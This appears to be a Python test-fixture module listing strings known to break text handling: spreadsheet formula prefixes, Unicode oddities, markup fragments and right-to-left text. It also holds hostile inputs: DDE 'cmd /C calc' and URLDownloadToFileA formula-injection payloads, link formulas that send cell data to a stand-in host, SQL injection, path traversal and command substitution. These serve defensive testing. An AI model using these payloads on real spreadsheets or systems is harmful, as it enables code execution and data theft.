"""Texts that have made trouble elsewhere, and that people type every day."""

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠SUM(1)"),
    *("=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0", "=10+20+cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")'),
    *('=HYPERLINK("http://x.test/?"&A1,"see")', '=IMPORTXML("http://x.test","//a")', '=WEBSERVICE("http://x.test")'),
    *('=IMAGE("http://x.test")', "='\\\\host\\share\\[b.xlsx]S'!A1", "=rundll32|'URL.dll,OpenURL x'!A"),
    *('=EXEC("x")', '=CALL("urlmon","URLDownloadToFileA","JJCCBB",0)', "=A1:XFD1048576", "=1;2", "{=1}", "'=1"),
    *('"=1', ";=1", ",=1", "|=1", "%0A=1", "=", "+", "-", "@", "==", "=-1", "=+1", "=@1"),
    *("- bullet", "--note", "+44 20 7946 0000", "@handle", "#N/A", "#REF!", "#DIV/0!", "1e5", "0123", "TRUE", "false"),
    *("2024-01-01", "1/2", "(5)", "£5", "5%", "00:30", "12:30:00", "1,000", "1.5.2026", "-", "– dash", "_x0041_"),
)

TROUBLE = (
    *("", " ", "\u00a0", "\u200b", "\u200d", "\u00ad", "İ ı ß ﬁ", "e\u0301", "1️⃣", "👩‍👩‍👧", "🇬🇧", "Z̷̧a̶l̵g̴o̸"),
    *("</para>", '<img src="/etc/passwd">', '<a href="http://x.test">x</a>', "<b>", "&amp; & &lt;", "]]>", "<!--"),
    *("%s{}%(x)s", "$(x)", "../../", "'; DROP TABLE x; --", "a\tb", "two\nlines", "three\n\n\nparts", "\\n (\\)"),
    *("ŵ ŷ Ŵ Ŷ", "Zażółć gęślą jaźń", "Tiếng Việt", "中文", "देवनागरी", "ʼn", "½ ⅓ ≥ ≤ → ✓ ☐", "€ £ ₹", "…“”‘’–—"),
)

RIGHT_TO_LEFT = (
    "שלום עולם",
    "דוח על 25 מקרים (ילדים)",
    "שָׁלוֹם",
    "مرحبا بالعالم",
    "تقرير عن 25 حالة (الأطفال) في 2026",
    "Mother said السلام عليكم to the worker",
    "السَّلَامُ عَلَيْكُمْ",
    "ٹ ڈ ڑ گ چ پ ے ݭ",
    "الله لا",
)
